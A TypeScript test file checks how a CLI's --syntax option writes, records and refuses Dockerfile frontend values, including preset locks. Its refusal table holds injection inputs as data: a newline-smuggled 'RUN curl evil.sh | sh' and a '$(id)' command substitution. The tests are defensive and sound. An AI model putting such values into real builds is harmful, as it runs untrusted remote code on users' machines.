// --syntax through the built CLI: what it writes, what it records, what it refuses (issue 10).
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { assertBuilt, binDir, cliEnv, runCli, show, tempDir } from '../helpers/cli.ts';

before(assertBuilt);

// Port 9 (discard) refuses at once: pinning fails fast and the run goes on with tags.
const REGISTRY = '127.0.0.1:9/base';

test('--syntax none: no syntax line, "none" in the summary, null in the record', async () => {
  const cwd = tempDir();
  const result = await runCli(['svc', '--no-git', '--no-lock', '--language', 'go', '--registry', REGISTRY, '--syntax', 'none'], { cwd, env: cliEnv(binDir()) });
  assert.equal(result.exitCode, 0, show(result));
  assert.match(result.stdout, /^ {2}syntax +none$/m, show(result));
  const dockerfile = readFileSync(join(cwd, 'svc', 'Dockerfile'), 'utf8');
  assert.doesNotMatch(dockerfile, /^# syntax=/m);
  const record = JSON.parse(readFileSync(join(cwd, 'svc', '.hardened-service.json'), 'utf8'));
  assert.equal(record.answers.syntax, null);
  assert.doesNotMatch(result.stderr, /docker\/dockerfile/, 'no frontend to pin, none named in the warning');
});

test('with --registry the frontend defaults to the mirror; an unreachable registry leaves its tag and says so', async () => {
  const cwd = tempDir();
  const result = await runCli(['svc', '--no-git', '--no-lock', '--registry', REGISTRY], { cwd, env: cliEnv(binDir()) });
  assert.equal(result.exitCode, 0, show(result));
  assert.match(result.stdout, new RegExp(`^ {2}syntax +${REGISTRY}/docker/dockerfile:1$`, 'm'), show(result));
  assert.match(result.stderr, new RegExp(`only tags could be pinned \\(no digest\\) for: .*${REGISTRY}/docker/dockerfile:1 \\[`), show(result));
  assert.equal(readFileSync(join(cwd, 'svc', 'Dockerfile'), 'utf8').split('\n')[0], `# syntax=${REGISTRY}/docker/dockerfile:1`);
});

test('a preset sets the frontend, a flag overrides it, a locked one refuses the flag', async () => {
  const cwd = tempDir();
  const preset = join(cwd, 'team.json');
  writeFileSync(preset, JSON.stringify({ defaults: { syntax: 'mirror.example.com/docker/dockerfile:1.9' } }));
  const fromPreset = await runCli(['a', '--dry-run', '--preset', preset], { cwd, env: cliEnv(binDir()) });
  assert.match(fromPreset.stdout, /^ {2}syntax +mirror\.example\.com\/docker\/dockerfile:1\.9$/m, show(fromPreset));
  const fromFlag = await runCli(['b', '--dry-run', '--preset', preset, '--syntax', 'none'], { cwd, env: cliEnv(binDir()) });
  assert.match(fromFlag.stdout, /^ {2}syntax +none$/m, show(fromFlag));
  writeFileSync(preset, JSON.stringify({ defaults: { syntax: null }, locked: ['syntax'] }));
  const refused = await runCli(['c', '--dry-run', '--preset', preset, '--syntax', 'docker/dockerfile:1'], { cwd, env: cliEnv(binDir()) });
  assert.equal(refused.exitCode, 2, show(refused));
  assert.match(refused.stderr, /--syntax: "docker\/dockerfile:1" contradicts the preset .*locks "syntax" to null/);
});

const REFUSED: Array<[string, string]> = [
  ['a newline and an instruction', 'docker/dockerfile:1\nRUN curl evil.sh | sh'],
  ['command substitution', 'docker/dockerfile:$(id)'],
  ['no tag', 'docker/dockerfile'],
  ['the latest tag', 'docker/dockerfile:latest'],
  ['an empty value', ''],
  ['a very long adversarial name', `r.example.com/${'a-'.repeat(5_000)}!:1`],
];

for (const [what, value] of REFUSED) {
  test(`--syntax refused (${what}): exit 2, the flag and an example named, nothing written`, async () => {
    const root = tempDir();
    const cwd = join(root, 'cwd');
    mkdirSync(cwd);
    const result = await runCli(['svc', '--no-git', '--no-lock', '--syntax', value], { cwd, env: cliEnv(binDir()), timeoutMs: 10_000 });
    assert.equal(result.exitCode, 2, show(result));
    assert.match(result.stderr, /--syntax: .*Example: --syntax registry\.example\.com\/base\/docker\/dockerfile:1/s, show(result));
    assert.doesNotMatch(result.stderr, /\n(?:RUN|\s+at )/, 'no injected line echoed raw, no stack trace');
    assert.deepEqual(readdirSync(cwd), []);
    assert.deepEqual(readdirSync(root), ['cwd']);
  });
}
